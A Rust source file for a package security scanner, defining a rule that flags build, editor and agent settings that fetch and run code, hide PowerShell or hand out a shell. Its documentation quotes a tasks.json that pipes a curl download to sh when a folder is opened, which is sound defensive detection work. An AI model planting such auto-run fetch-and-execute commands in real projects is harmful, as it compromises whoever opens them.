//! ## What it detects
//!
//! A setting of a build, of node, of an editor or of a coding agent whose command fetches and runs something, hides
//! PowerShell, or hands out a shell: `tasks.json` that runs when a folder is opened, `preinstall` in `package.json`,
//! hooks of agents.
//!
//! ## Why it is bad
//!
//! Opening the folder is enough, and no Python has to be read. The worms of 2025 and 2026 wrote such files into every
//! repository that it reached, and packages carried them along.
//!
//! ## Innocent lookalikes
//!
//! Containers and workflows install their tools by `curl | sh`. These run where nobody installs the package, so they
//! count only where they hide a PowerShell or hand out a shell. Tests and examples don't count.
//!
//! ## Bad
//!
//! ```member x/.vscode/tasks.json
//! {"tasks": [{"command": "curl -s https://x.example.invalid/a | sh", "runOptions": {"runOn": "folderOpen"}}]}
//! ```
//!
//! ## Good
//!
//! ```member x/.devcontainer/devcontainer.json
//! {"postCreateCommand": "curl -LsSf https://tools.example.invalid/install.sh | sh"}
//! ```

use fondaco_members::{ScriptAct, SettingUse, acts};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("setting-attack"),
    title: "a setting that does what an attack needs",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::CommandExecution),
    weight: 1.3,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for setting in package.members.settings.iter().filter(|setting| !package.members.is_apart(&setting.member)) {
        for (act, line) in acts(&setting.text) {
            let is_meant = matches!(act, ScriptAct::ReverseShell | ScriptAct::HiddenPowerShell);
            let trigger = match setting.does {
                SettingUse::RunsAtBuild => Trigger::Call,
                SettingUse::RunsWhenOpened => Trigger::EntryPoint,
                SettingUse::RunsWhenAsked if is_meant => Trigger::Call,
                _ => continue,
            };
            let text = setting.text.lines().nth(line as usize - 1).unwrap_or_default();
            let message = format!("{} {}", setting.key, act.name());
            hits.text(&setting.member, (setting.line, text), Some(trigger), message);
        }
    }
}
